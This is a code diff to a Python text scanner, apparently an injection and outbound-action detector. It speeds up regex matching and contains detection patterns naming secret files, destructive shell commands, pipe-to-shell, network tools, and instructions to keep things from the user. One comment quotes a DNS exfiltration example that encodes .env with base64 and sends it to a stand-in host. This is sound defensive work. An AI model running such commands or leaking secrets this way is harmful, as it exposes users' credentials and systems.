@@ -34,7 +34,7 @@ import codecs
 import contextlib
 import re
 
-from .firststart import StartRe, finditer_whole, whole
+from .firststart import DispatchRe, StartRe, finditer_whole, whole
 from .lazyre import LazyRe, lazy
 from .near import AnyOf, chain_of
 
@@ -276,7 +276,8 @@ _CONSEQUENTIAL_WORDS = (
     "shutdown uninstall unlink shred rewrite amend rebase"
 )
 _CONSEQUENTIAL_VERB = frozenset(_CONSEQUENTIAL_WORDS.split())
-_CONSEQUENTIAL_TEXT = StartRe(
+# (a DispatchRe: at a '|', '.' or '-' only the alternatives that start with it are tried, 60 -> 15 ms per 100 KB)
+_CONSEQUENTIAL_TEXT = DispatchRe(
     r"(?:https?://|(?<![\w.+-])[\w.+-]++@[\w-]++\.[a-z]{2,}\b|\.env\b|\bcredentials?\b|\bapi[\s_-]?keys?\b|\bsecrets?\b|\btokens?\b|\bpasswords?\b|\bprivate\s+keys?\b|id_rsa|\.ssh\b|\.aws\b"
     r"|\brm\s+-|\bcurl\b|\bwget\b|\|\s*(?:ba|z)?sh\b|\bchmod\b|\bsudo\b|--force\b|\bforce[\s-]push"
     r"|\b(?:do\s+not|don'?t|never|without)\s+(?:tell|telling|inform|informing|mention|mentioning|alert|alerting|notify|notifying)\w*\s+(?:\w+\s+)?user"
@@ -509,7 +510,9 @@ def normalise(text: str) -> str:
 
 # A URL fragment or query value made of six or more words joined by -, _ or + (a sentence, not a slug of a title
 # is told apart by what the words say: they are scanned).
-_LINK_WORDS = lazy(r"[#?=](?:[A-Za-z:,.'!?]{1,20}[-_+]){6,}[A-Za-z:,.'!?]{1,20}")
+# (each word possessive: it stops at a character of its class, never at a joiner, so giving characters back never finds one;
+# tried at every `?` of "???…" it gave back twenty each time, 24 ms per 100 KB)
+_LINK_WORDS = lazy(r"[#?=](?:[A-Za-z:,.'!?]{1,20}+[-_+]){6,}[A-Za-z:,.'!?]{1,20}")
 _LINK_SEP = lazy(r"[-_+]")
 _HEX = lazy(r"\b(?:[0-9a-fA-F]{2}){12,}\b")
 _BIN = lazy(r"(?:[01]{8}\s+){6,}[01]{8}")
@@ -885,8 +888,9 @@ GUARD_RULE = "probe.outbound-after-injection"
 HIT_RULE = "probe.injection"
 GUARD_WINDOW_S = 3600.0
 # (the program's name starts the match, after the start or a separator: a match started at the separator made every
-# blank a place to try the whole list, 80 ms per 100 KB of blanks; tests/test_net_command.py keeps that pattern)
-_NET_COMMAND = StartRe(
+# blank a place to try the whole list, 80 ms per 100 KB of blanks; tests/test_net_command.py keeps that pattern;
+# a DispatchRe: at each letter only the alternatives that start with it)
+_NET_COMMAND = DispatchRe(
     r"(?<![^\s;&|(`$'\"/])(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|ftp|tftp|telnet|http|https|xh|aria2c|lwp-request|gh|glab|twine|"
     r"iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Send-MailMessage|sendmail|mail|mutt|dig|nslookup|host|rclone|s3cmd|azcopy|"
     # round 12b: a host name looked up is a message out (`ping $(base64 .env).x.example`), a text browser fetches, a
